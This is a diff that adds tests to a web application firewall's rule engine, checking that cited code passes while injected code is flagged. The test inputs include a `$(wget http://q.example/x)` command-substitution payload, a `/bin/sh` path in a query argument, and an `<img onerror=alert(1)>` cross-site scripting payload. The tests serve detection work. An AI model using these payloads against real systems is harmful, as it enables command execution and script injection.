@@ -339,3 +339,24 @@ describe('what a site says to the built-in rules', () => {
     assert.equal(ask(gate(), { target: '/?q=%2BAAA-x%2BABC' }).why, 'pass');
   });
 });
+
+describe('what is proof in one place and none in another', () => {
+  const json = (value: unknown): Request => ({
+    headers: [['Content-Type', 'application/json']],
+    body: JSON.stringify(value),
+  });
+
+  test('a shell by its path: in a manifest, and in an argument', () => {
+    assert.equal(ask(gate(), json({ command: ['/bin/sh', '-c', 'exec app'] })).why, 'pass');
+    assert.equal(ask(gate(), { target: '/x?run=%2Fbin%2Fsh' }).why, 'waf/command-injection');
+  });
+
+  test('code that a sentence cites, and the same beside it', () => {
+    const cites = 'In bash you can write `$(date)` to get the day';
+    assert.equal(ask(gate(), json({ text: cites })).why, 'pass');
+    assert.equal(ask(gate(), json({ text: `${cites};$(wget http://q.example/x)` })).why, 'waf/command-injection');
+    assert.equal(ask(gate(), json({ text: 'the tag `<script>` is one that runs' })).why, 'pass');
+    const both = 'the tag `<script>` is one that runs <img src=x onerror=alert(1)>';
+    assert.equal(ask(gate(), json({ text: both })).why, 'waf/cross-site-scripting');
+  });
+});
